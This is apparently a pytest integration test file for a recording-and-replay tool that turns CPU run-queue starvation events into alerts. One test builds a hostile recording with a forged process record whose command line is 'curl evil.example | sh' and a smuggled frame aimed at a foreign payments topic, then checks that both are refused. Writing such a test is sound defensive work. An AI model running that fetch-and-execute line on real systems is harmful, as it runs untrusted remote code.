# SPDX-License-Identifier: Apache-2.0
"""Record and replay without the kernel: a recording written through the
collector's file sink, replayed twice into a real broker and streams worker,
is stored once and raises the alerts its run-queue waits call for. The fast
regression test for the rules (issue 9, part 7)."""

from __future__ import annotations

import os
import subprocess
import sys
import time
import uuid

import pytest

from jitterscope.collector.recording import RecordingPublisher, summarize
from jitterscope.schemas import batches, events, topics
from tests.conftest import wait_until

pytestmark = pytest.mark.integration

VICTIM, SUSPECT = 4242, 777
ALERTING = 6  # waits of 15 ms (>= runq_alert_ms, 10 by default)
QUIET = 9  # waits of 2 ms: stored, no alert


def make_recording(path, host: str) -> dict[str, int]:
    """A starvation incident as the collector would have recorded it."""
    now = time.time_ns()
    head = lambda seq, offset=0: dict(host=host, boot_id="boot-rr", seq=seq, ts_ns=now + offset)  # noqa: E731
    topology = events.Topology(**head(1), cpus=[0, 1, 2, 3],
                               numa_nodes=[events.NumaNode(node=0, cpus=[0, 1, 2, 3], memory_bytes=1 << 34)])
    process = events.ProcessInfo(**head(1), pid=VICTIM, comm="vllm-engine", cmdline="python -m vllm serve",
                                 cgroup="/system.slice/vllm.service", cpus_allowed=[0, 1])
    waits = [15_000_000] * ALERTING + [2_000_000] * QUIET
    runq = [events.RunqEvent(**head(100 + i, i * 1_000_000), pid=VICTIM, tid=VICTIM + 1, comm="vllm-engine",
                             cpu=i % 2, wait_ns=wait, suspect_pid=SUSPECT, suspect_tid=SUSPECT, suspect_comm="backup-tar")
            for i, wait in enumerate(waits)]
    publisher = RecordingPublisher(path, host, max_records=4)  # several messages on the runq topic
    publisher.check_reachable()
    publisher.send(topics.TOPOLOGY, [topology])
    publisher.send(topics.PROCESSES, [process])
    publisher.send(topics.RUNQ, runq)
    publisher.flush()
    publisher.close()
    return dict(publisher.sent_by_topic)


def run_replay(env, path, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "jitterscope.cli", "replay", str(path), *args], env=env,
                          capture_output=True, text=True, timeout=120)


def replay(stack, path, host: str) -> str:
    done = run_replay(stack.env, path, "--host", host)
    assert done.returncode == 0, done.stdout + done.stderr
    return done.stdout


def test_a_recording_replayed_twice_is_stored_once_and_raises_its_alerts(stack, tmp_path):
    host = f"rr-{uuid.uuid4().hex[:8]}"
    path = tmp_path / "incident.jsrec.gz"
    recorded = make_recording(path, host)
    assert recorded == {topics.TOPOLOGY: 1, topics.PROCESSES: 1, topics.RUNQ: ALERTING + QUIET}
    summary = summarize(path)
    assert summary.by_topic == recorded and summary.hosts == {host} and not summary.truncated

    worker = stack.start_worker()
    first = replay(stack, path, host)
    assert f"replayed {ALERTING + QUIET + 2} records of host {host}" in " ".join(first.split())
    replay(stack, path, host)

    tables = {"topology": 1, "processes": 1, "runq_events": ALERTING + QUIET}
    count = lambda table: stack.query(  # noqa: E731
        f"SELECT count(), uniqExact(boot_id, seq) FROM jitterscope.{table} FINAL WHERE host = {{h:String}}", h=host)
    for table, expected in tables.items():
        wait_until(lambda: count(table) == [[expected, expected]], 90, f"{expected} {table} rows", worker)

    alerts = wait_until(
        lambda: (rows := stack.query(
            "SELECT seq, pid, suspect_pid, suspect_comm, cpus_allowed, summary, remedy FROM jitterscope.alerts FINAL "
            "WHERE host = {h:String} AND kind = 'runq_starvation' ORDER BY seq", h=host)) and len(rows) >= ALERTING
        and rows, 60, f"{ALERTING} runq_starvation alerts", worker)
    assert [a[0] for a in alerts] == list(range(100, 100 + ALERTING))  # once each, only the 15 ms waits
    for _seq, pid, suspect_pid, suspect_comm, cpus_allowed, summary_text, remedy in alerts:
        assert (pid, suspect_pid, suspect_comm) == (VICTIM, SUSPECT, "backup-tar")
        assert list(cpus_allowed) == [0, 1]  # the ProcessInfo record was joined
        assert "backup-tar" in summary_text and f"taskset -apc 2-3 {SUSPECT}" in remedy  # the Topology too

    # every replayed message went through: the duplicates are there before FINAL folds them
    raw = stack.query("SELECT count() FROM jitterscope.runq_events WHERE host = {h:String}", h=host)[0][0]
    assert ALERTING + QUIET <= raw <= 2 * (ALERTING + QUIET)
    print(f"round trip: recorded {summary.records} records {summary.by_topic}; replayed twice; stored FINAL "
          f"{ {t: count(t)[0][0] for t in tables} } (runq rows before FINAL: {raw}); alerts {len(alerts)}")
    assert worker.popen.poll() is None


def test_replay_names_the_host_to_pass_before_it_needs_a_broker(tmp_path):
    host = f"rr-{uuid.uuid4().hex[:8]}"
    path = tmp_path / "incident.jsrec.gz"
    make_recording(path, host)
    env = {k: v for k, v in os.environ.items() if not k.startswith("JITTERSCOPE_")}
    done = run_replay(env, path)
    assert done.returncode == 78 and done.stdout == ""
    line = " ".join(done.stderr.split())
    assert f"replay needs --host: {path} holds the records of host '{host}'; to replay them, pass --host {host}" \
        in line, done.stderr
    done = run_replay(env, path, "--host", "someone-else")
    assert done.returncode == 78 and f"holds no records of host 'someone-else'; it holds records of: '{host}'" \
        in " ".join(done.stderr.split())


def test_a_hostile_recording_cannot_write_other_topics_or_other_hosts_records(stack, tmp_path):
    """A recording keyed for one host that smuggles a frame for a foreign
    topic and a ProcessInfo of another host: replayed, only the host's own
    records go out, the rest is refused and said, and the exit status says so."""
    from confluent_kafka import Consumer, TopicPartition
    from confluent_kafka.admin import AdminClient, NewTopic

    from jitterscope.collector.recording import RecordingWriter

    victim, attacker = f"victim-{uuid.uuid4().hex[:8]}", f"attacker-{uuid.uuid4().hex[:8]}"
    running = [p for p in stack.procs if p.name == "streams" and p.popen.poll() is None]
    worker = running[0] if running else stack.start_worker()
    make_recording(tmp_path / "victim.jsrec.gz", victim)
    replay(stack, tmp_path / "victim.jsrec.gz", victim)
    stored_victim = lambda: stack.query(  # noqa: E731
        "SELECT comm, cmdline FROM jitterscope.processes FINAL WHERE host = {h:String}", h=victim)
    wait_until(lambda: stored_victim() == [["vllm-engine", "python -m vllm serve"]], 90, "the victim's process",
               worker)

    foreign = f"payments.transactions.{uuid.uuid4().hex[:6]}"
    admin = AdminClient({"bootstrap.servers": stack.broker.bootstrap_servers})  # kept: its futures need it
    admin.create_topics([NewTopic(foreign, 1, 1)])[foreign].result(30)
    now = time.time_ns()
    forged = events.ProcessInfo(host=victim, boot_id="boot-rr", seq=1, ts_ns=now, pid=VICTIM, comm="evil",
                                cmdline="curl evil.example | sh", cgroup="/", cpus_allowed=[0])
    own = events.RunqEvent(host=attacker, boot_id="boot-at", seq=1, ts_ns=now, pid=1, tid=1, comm="a", cpu=0,
                           wait_ns=1_000_000, suspect_pid=2, suspect_tid=2, suspect_comm="b")
    path = tmp_path / "hostile.jsrec.gz"
    writer = RecordingWriter(path)
    writer.write([(foreign, attacker.encode(), 1, b'{"amount": 1000000, "to": "attacker"}\n'),
                  (topics.PROCESSES, attacker.encode(), 1, batches.encode_batch([forged])),
                  (topics.RUNQ, attacker.encode(), 1, batches.encode_batch([own]))])
    writer.close()

    done = run_replay(stack.env, path, "--host", attacker)
    assert done.returncode == 1, done.stdout + done.stderr
    out, err = " ".join(done.stdout.split()), " ".join(done.stderr.split())
    assert f"replayed 1 records of host {attacker} (runq 1)" in out
    assert f"refused 1 frame(s): topic '{foreign}' is not one of jitterscope's input topics" in err
    assert f"refused 1 frame(s): keyed for host '{attacker}' but holding records of host '{victim}'" in err
    assert "2 frame(s) (2 records) of" in err and "were refused and not published" in err

    consumer = Consumer({"bootstrap.servers": stack.broker.bootstrap_servers, "group.id": f"t-{uuid.uuid4().hex}"})
    try:
        low, high = consumer.get_watermark_offsets(TopicPartition(foreign, 0), timeout=30)
    finally:
        consumer.close()
    assert high == low == 0, "nothing may reach a topic that is not jitterscope's"
    wait_until(lambda: stack.query("SELECT count() FROM jitterscope.runq_events FINAL WHERE host = {h:String}",
                                   h=attacker) == [[1]], 90, "the attacker host's own record", worker)
    assert stored_victim() == [["vllm-engine", "python -m vllm serve"]], "the victim's process was replaced"
